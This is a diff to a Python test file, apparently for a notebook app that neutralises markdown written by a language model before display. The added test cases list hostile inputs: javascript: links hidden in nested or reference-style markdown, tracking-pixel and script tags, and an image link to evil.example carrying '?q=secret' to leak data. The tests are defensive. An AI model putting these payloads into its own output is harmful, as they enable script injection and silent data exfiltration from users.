@@ -1,6 +1,9 @@
 from __future__ import annotations
 
+import re
+
 import pytest
+from markdown_it import MarkdownIt
 
 from ingest.models import Anchor
 from notebook_app.records import Citation
@@ -34,6 +37,11 @@ def test_code_is_left_as_it_is() -> None:
         "[click](javascript:alert(1))",
         "see https://evil.example/now and www.evil.example",
         "[ref]\n\n[ref]: https://evil.example",
+        "[a [b] c](javascript:alert(1))",
+        "[over two](\njavascript:alert(1))",
+        "> [r]: javascript:alert(1)\n\n[go][r] and [r]",
+        "![x][r]\n\n- [r]: https://evil.example/pixel.png",
+        "<img src=https://evil.example/pixel.png> <script>alert(1)</script>",
         ":red[shout] and :material/lock: and :orange-badge[weak]",
     ],
 )
@@ -44,6 +52,26 @@ def test_what_a_model_wrote_neither_fetches_nor_links_nor_styles(hostile: str) -
     assert "https://" not in tamed or "\\[ref\\]:" in tamed
     assert ":red[" not in tamed.replace("\\:red[", "")
     assert ":material/" not in tamed.replace("\\:material/", "")
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "![x](data:image/png;base64,AAAA)",
+        "[a [b] c](javascript:alert(1))",
+        "[over two](\njavascript:alert(1))",
+        "> [r]: javascript:alert(1)\n\n[go][r] and [r]",
+        "![x][r]\n\n- [r]: //evil.example/pixel.png",
+        "<https://evil.example> <a href='javascript:alert(1)'>x</a> <img src=x onerror=alert(1)>",
+    ],
+)
+def test_nothing_of_it_becomes_a_picture_a_link_or_html(hostile: str) -> None:
+    body, _ = answer(f"It lasts [1]. {hostile}", [], 1)
+    shown = MarkdownIt("commonmark", {"html": False}).render(body)
+    assert "<img" not in shown
+    assert re.findall(r'href="([^"]*)"', shown) == ["#cite-m1-1"]
+    assert "<script" not in shown
 
 
 def test_about_is_not_struck_through() -> None:
@@ -60,6 +88,17 @@ def test_a_sentence_that_is_not_borne_out_is_marked_after_its_markers() -> None:
     assert "(#cite-m1-2). :orange-badge[verdict_weak]" in body
     assert body.endswith("(#cite-m1-2). :red-badge[verdict_unsupported]")
     assert lost == 0
+
+
+def test_a_sentence_is_found_with_its_markers_before_the_full_stop() -> None:
+    sentences = [
+        {"text": "It lasts, and grows.", "citations": [1, 2], "verdict": "weak"},
+        {"text": "It sings.", "citations": [2], "verdict": "unsupported"},
+    ]
+    body, lost = answer("It lasts [1], and grows [2][1]. It sings [2].", sentences, 1, 2)
+    assert lost == 0
+    assert body.endswith(":red-badge[verdict_unsupported]")
+    assert ". :orange-badge[verdict_weak] It sings" in body
 
 
 def test_a_verdict_without_a_place_is_counted() -> None:
